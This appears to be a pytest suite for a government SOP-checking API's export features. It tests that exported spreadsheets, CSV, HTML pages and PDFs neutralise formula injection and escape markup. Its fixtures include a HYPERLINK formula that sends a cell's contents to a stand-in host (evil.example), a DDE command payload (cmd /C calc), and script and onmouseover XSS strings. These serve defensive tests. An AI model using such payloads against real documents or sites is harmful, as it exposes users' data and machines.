"""Exports opened back; formula injection neutralised; document text escaped in HTML and PDF."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path

import pdfplumber
import pytest
from api_support import AGENCY_A, SATPOL_SEED, Keys, make_zip, wait_audit
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from api.exports.cells import safe_cell
from api.services import Analysis
from api.worker import check_record

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
HOSTILE_ACTIVITY = (
    '<script>alert("x")</script> Memerintahkan <b onmouseover=alert(1)>menyusun</b> & LAKIP'
)


def _download(client: TestClient, url: str, keys: Keys, role: str = "inspector") -> bytes:
    r = client.get(url, headers=keys.h(role))
    assert r.status_code == 200, r.text
    assert "attachment;" in r.headers["content-disposition"]
    return r.content


@pytest.fixture(scope="module")
def hostile(client: TestClient, keys: Keys, satpol: bytes) -> dict:
    """The seed with a formula as its title (through the real reader) and, stored through the
    real rules, a record whose first activity is HTML."""
    text = satpol.decode("utf-8").replace("SOP Penyusunan LAKIP\n", HOSTILE_TITLE + "\n", 1)
    r = client.post(
        "/documents", files={"file": ("hostile.txt", text.encode())}, headers=keys.h("opd_a")
    )
    assert r.status_code == 201, r.text
    report = r.json()
    assert report["record"]["identity"]["title"] == HOSTILE_TITLE
    record = report["record"]
    record["steps"][0]["activity"] = HOSTILE_ACTIVITY
    record["source"]["sha256"] = "f" * 64
    service = client.app.state.service
    analysis = Analysis({"ok": True, "status": "success", **check_record(record)})
    with service.db.session() as session:
        doc, _ = service.save(
            session,
            *service.store.put(HOSTILE_ACTIVITY.encode()),
            len(HOSTILE_ACTIVITY),
            "hostile-html.txt",
            AGENCY_A,
            analysis,
            None,
        )
    return {"formula_doc": report["document_id"], "html_doc": doc.id}


def test_safe_cell() -> None:
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"):
        assert safe_cell(bad) == "'" + bad
    assert safe_cell("Dasar hukum") == "Dasar hukum"
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None


def test_document_xlsx(client: TestClient, keys: Keys, uploaded: dict) -> None:
    data = _download(client, f"/documents/{uploaded['document_id']}/export?format=xlsx", keys)
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames[0] == "Ringkasan" and "Temuan" in wb.sheetnames
    summary = wb["Ringkasan"]
    assert summary.freeze_panes == "A2" and summary.auto_filter.ref
    header = [c.value for c in summary[1]]
    assert "OPD" in header and "Skor" in header
    row = dict(zip(header, [c.value for c in summary[2]], strict=True))
    assert (
        row["Skor"] == uploaded["summary"]["score"]
        and row["Kesalahan"] == uploaded["summary"]["errors"]
    )
    findings = wb["Temuan"]
    assert findings.freeze_panes == "A2" and findings.auto_filter.ref
    codes = [findings.cell(row=r, column=3) for r in range(2, findings.max_row + 1)]
    assert [c.value for c in codes] == [f["rule"] for f in uploaded["findings"]]
    for cell in codes:
        assert cell.hyperlink is not None and cell.hyperlink.target.endswith(
            f"/ui/rules/{cell.value}"
        )


def test_document_xlsx_in_english(client: TestClient, keys: Keys, uploaded: dict) -> None:
    data = _download(
        client, f"/documents/{uploaded['document_id']}/export?format=xlsx&lang=en", keys
    )
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames[0] == "Summary" and "Findings" in wb.sheetnames
    assert "Score" in [c.value for c in wb["Summary"][1]]


def test_document_csv_json_pdf(client: TestClient, keys: Keys, uploaded: dict) -> None:
    doc_id = uploaded["document_id"]
    raw = _download(client, f"/documents/{doc_id}/export?format=csv", keys)
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "OPD" and len(rows) == 1 + max(1, len(uploaded["findings"]))
    assert {r[rows[0].index("Kode aturan")] for r in rows[1:]} == {
        f["rule"] for f in uploaded["findings"]
    } or not uploaded["findings"]
    payload = json.loads(_download(client, f"/documents/{doc_id}/export?format=json", keys))
    assert payload["summary"] == uploaded["summary"]
    assert [f["rule"] for f in payload["findings"]] == [f["rule"] for f in uploaded["findings"]]
    pdf = _download(client, f"/documents/{doc_id}/export?format=pdf", keys)
    with pdfplumber.open(io.BytesIO(pdf)) as doc:
        text = "\n".join(page.extract_text() or "" for page in doc.pages)
    assert "SATUAN POLISI PAMONG PRAJA" in text  # the agency header
    assert "Laporan Pemeriksaan SOP" in text
    for f in uploaded["findings"][:3]:
        assert f["rule"] in text
    assert "Diagram alir" in text  # the swimlane page


def test_formula_injection_is_neutralised(client: TestClient, keys: Keys, hostile: dict) -> None:
    doc_id = hostile["formula_doc"]
    wb = load_workbook(
        io.BytesIO(_download(client, f"/documents/{doc_id}/export?format=xlsx", keys))
    )
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values.append(cell.value)
                    assert not cell.value.startswith(("=", "+", "-", "@")), cell.value
    assert "'" + HOSTILE_TITLE in values
    raw = _download(client, f"/documents/{doc_id}/export?format=csv", keys).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw), delimiter=";"))
    assert all(not v.startswith(("=", "+", "-", "@")) for row in rows for v in row)
    assert "'" + HOSTILE_TITLE in [v for row in rows for v in row]


def test_document_text_is_escaped_in_the_page(
    client: TestClient, keys: Keys, hostile: dict
) -> None:
    html = client.get(f"/ui/documents/{hostile['html_doc']}", headers=keys.h("opd_a")).text
    assert "<script>alert" not in html and "<b onmouseover" not in html
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html
    formula_page = client.get(
        f"/ui/documents/{hostile['formula_doc']}", headers=keys.h("opd_a")
    ).text
    assert "&#34;http://evil.example/?x=&#34;&amp;A1" in formula_page


def test_document_text_is_escaped_in_the_pdf(client: TestClient, keys: Keys, hostile: dict) -> None:
    pdf = _download(client, f"/documents/{hostile['html_doc']}/export?format=pdf", keys)
    with pdfplumber.open(io.BytesIO(pdf)) as doc:
        text = "".join(page.extract_text() or "" for page in doc.pages)
    compact = text.replace("\n", "").replace(" ", "")
    assert '<script>alert("x")' in compact  # drawn as text, not taken as markup


def test_audit_exports(client: TestClient, keys: Keys, seed_bytes: dict[str, bytes]) -> None:
    names = sorted(seed_bytes)
    members = {
        f"dinkes/{names[0]}": seed_bytes[names[0]],
        f"satpol/{SATPOL_SEED}": seed_bytes[SATPOL_SEED],
        "satpol/kosong.txt": b"   ",
    }
    r = client.post(
        "/audits",
        files={"files": ("a.zip", make_zip(members))},
        data={"name": "Ekspor"},
        headers=keys.h("reviewer"),
    )
    audit = wait_audit(client, r.json()["id"], keys.h("reviewer"))
    base = f"/audits/{audit['id']}/export?format="
    wb = load_workbook(io.BytesIO(_download(client, base + "xlsx", keys)))
    assert wb.sheetnames[0] == "Ringkasan" and wb.sheetnames[-1] == "Temuan"
    assert {"dinkes", "satpol"} <= set(wb.sheetnames)
    summary = [[c.value for c in row] for row in wb["Ringkasan"].iter_rows()]
    assert len(summary) == 1 + 3
    failed = [row for row in summary if row[4] == "Gagal dibaca"]
    assert len(failed) == 1 and failed[0][-1]  # the reason is written
    for name in ("dinkes", "satpol"):
        sheet_opds = {row[0].value for row in wb[name].iter_rows(min_row=2)}
        assert sheet_opds <= {name}
    rows = list(
        csv.reader(
            io.StringIO(_download(client, base + "csv", keys).decode("utf-8-sig")), delimiter=";"
        )
    )
    assert {r[0] for r in rows[1:]} == {"dinkes", "satpol"}
    payload = json.loads(_download(client, base + "json", keys))
    assert payload["audit"]["id"] == audit["id"] and len(payload["documents"]) == 3
    with pdfplumber.open(io.BytesIO(_download(client, base + "pdf", keys))) as doc:
        text = "\n".join(page.extract_text() or "" for page in doc.pages)
    assert "Ringkasan per OPD" in text and "dinkes" in text and "satpol" in text


def test_unknown_format_is_422(client: TestClient, keys: Keys, uploaded: dict) -> None:
    r = client.get(
        f"/documents/{uploaded['document_id']}/export?format=docx", headers=keys.h("inspector")
    )
    assert r.status_code == 422


def test_worker_timeout_fails_only_that_document(
    client: TestClient, satpol: bytes, corpus_dir: Path
) -> None:
    from api.worker import WorkerPool

    # A scanned page needs seconds of OCR, far over the 0.5 s limit; a text export of the
    # same size is read in ~50 ms, too close to any limit to time out reliably.
    scan = sorted(corpus_dir.glob("sop/*/scans/*.300.pdf"))[0].read_bytes()
    pool = WorkerPool(1, timeout=0.5, memory_mb=2048)
    try:
        timed_out = asyncio.run(pool.run(scan, "slow.pdf"))
        assert timed_out["ok"] is False and timed_out["error"]["code"] == "timeout"
        pool.timeout = 120
        fine = asyncio.run(pool.run(satpol, "fine.txt"))
        assert fine["ok"] is True and fine["summary"]
    finally:
        pool.close()


def test_the_flowchart_answers_are_labelled_in_the_reader_s_language():
    # the PDF's flowchart labels unlabelled decision exits with these ("yes" unquoted in
    # ui.yml was a boolean key, and the flowchart said "yes" in both languages)
    from api.i18n import t

    assert (t("yes"), t("no")) == ("Ya", "Tidak")
    assert (t("yes", "en"), t("no", "en")) == ("Yes", "No")
